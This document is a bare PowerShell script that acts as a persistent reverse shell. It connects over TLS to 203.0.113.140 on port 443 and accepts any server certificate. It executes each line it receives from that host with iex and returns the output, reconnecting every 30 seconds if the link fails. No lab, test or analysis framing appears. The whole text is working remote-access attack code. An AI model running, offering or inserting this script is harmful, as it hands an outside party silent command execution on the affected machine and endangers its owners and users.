$h = '203.0.113.140'; $p = 443
while ($true) {
  try {
    $c = New-Object Net.Sockets.TcpClient($h, $p)
    $ssl = New-Object Net.Security.SslStream($c.GetStream(), $false, ({ $true } -as [Net.Security.RemoteCertificateValidationCallback]))
    $ssl.AuthenticateAsClient($h)
    $w = New-Object IO.StreamWriter($ssl); $r = New-Object IO.StreamReader($ssl); $w.AutoFlush = $true
    while (($cmd = $r.ReadLine()) -ne $null) { $w.WriteLine((iex $cmd 2>&1 | Out-String)) }
  } catch { Start-Sleep 30 }
}
